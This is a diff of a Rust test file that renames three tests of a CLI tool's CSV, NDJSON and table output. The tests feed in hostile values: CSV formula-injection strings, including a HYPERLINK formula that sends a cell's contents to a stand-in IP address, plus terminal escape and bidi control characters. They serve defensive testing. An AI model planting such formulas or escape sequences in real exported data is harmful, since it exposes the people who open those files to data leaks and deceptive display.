@@ -17,7 +17,7 @@ fn names(names: &[&str]) -> Value {
 }
 
 #[test]
-fn bc_50_no_cell_of_csv_is_a_formula_unless_it_is_wanted() {
+fn no_cell_of_csv_is_a_formula_unless_it_is_wanted() {
     let reason = r#"=HYPERLINK("http://192.0.2.9/"&A1,"ok")"#;
     let hostile = ["=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "＝1+1"];
     let mut rows = names(&hostile);
@@ -91,7 +91,7 @@ fn csv_is_read_back_as_it_was() {
 }
 
 #[test]
-fn bc_52_lines_of_json_have_the_values_and_no_control_characters() {
+fn lines_of_json_have_the_values_and_no_control_characters() {
     let hostile = ["\u{1b}[2J", "\u{9b}31m\u{7f}\u{202e}x", "a\nb\rc", "生产\u{1f600}"];
     let ran = hosts(&names(&hostile), &["-o", "ndjson"]);
     assert!(
@@ -103,7 +103,7 @@ fn bc_52_lines_of_json_have_the_values_and_no_control_characters() {
 }
 
 #[test]
-fn bc_56_columns_line_up_whatever_stands_in_them() {
+fn columns_line_up_whatever_stands_in_them() {
     let long = "x".repeat(128);
     let rows = json!([
         {"host_name": "生产-数据库-01", "scan_status": "failed", "failed_reasons": [{"failed_reason": "磁盘空间不足"}]},
